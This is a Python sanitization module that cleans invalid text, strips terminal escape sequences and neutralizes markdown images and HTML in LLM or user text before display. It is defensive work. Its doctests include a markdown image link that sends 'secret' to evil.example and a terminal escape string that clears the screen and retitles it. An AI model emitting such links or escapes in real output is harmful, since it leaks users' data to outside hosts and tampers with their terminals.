"""Text from outside (questions, warehouse values, LLM output) made safe for where it goes.

- ``clean_text``: invalid UTF-8 and lone surrogates (an argv byte that isn't UTF-8, a JSON
  ``"\\ud800"``) become U+FFFD, so nothing downstream fails to encode them.
- ``strip_terminal``: escape sequences and control characters removed before a terminal
  prints warehouse or log text (a table name holding ``\\x1b]...`` could rewrite the screen).
- ``safe_markdown``: LLM or user text for a chat client that renders markdown: no images
  (a remote image URL is fetched by the client at once, an exfiltration channel) and no raw
  HTML tags; the words stay.

>>> clean_text("a\\udcff b")
('a\\ufffd b', True)
>>> strip_terminal("sales\\x1b[2J\\x1b]0;pwned\\x07 ok")
'sales ok'
>>> safe_markdown('Done ![x](https://evil.example/p?d=secret) <img src="https://e/x"> **ok**')
'Done [image: x] &lt;img src="https://e/x"&gt; **ok**'
"""

from __future__ import annotations

import re

REPLACEMENT = "\ufffd"
INVALID_TEXT_NOTE = ("The question held bytes that are not valid text; they were replaced by "
                     f"'{REPLACEMENT}'.")


def clean_text(value: str) -> tuple[str, bool]:
    """``value`` with lone surrogates replaced by U+FFFD, and whether anything was replaced."""
    cleaned = _SURROGATE.sub(REPLACEMENT, value)
    return cleaned, cleaned != value


_SURROGATE = re.compile("[\ud800-\udfff]")


_ESCAPES = re.compile(
    r"\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"  # OSC (window title, hyperlinks)
    r"|\x1b\[[0-?]*[ -/]*[@-~]"  # CSI (colours, cursor, clear screen)
    r"|\x1b[@-Z\\-_]"  # other two-character escapes
    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f]"  # remaining control characters (tab and newline kept)
)


def strip_terminal(value: str) -> str:
    """``value`` without terminal escape sequences or control characters (tabs, newlines kept)."""
    return _ESCAPES.sub("", value) if any(c < " " or "\x7f" <= c <= "\x9f" for c in value) else value


_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(?:\([^)]*\)|\[[^\]]*\])")
_TAG = re.compile(r"<(/?[A-Za-z!?][^>]*)>")


def safe_markdown(value: str) -> str:
    """Markdown without images or raw HTML: ``![alt](url)`` becomes ``[image: alt]`` and tags
    are escaped so they show as text."""
    value = _IMAGE.sub(lambda m: f"[image: {m.group(1)}]" if m.group(1) else "[image]", value)
    return _TAG.sub(lambda m: f"&lt;{m.group(1)}&gt;", value)
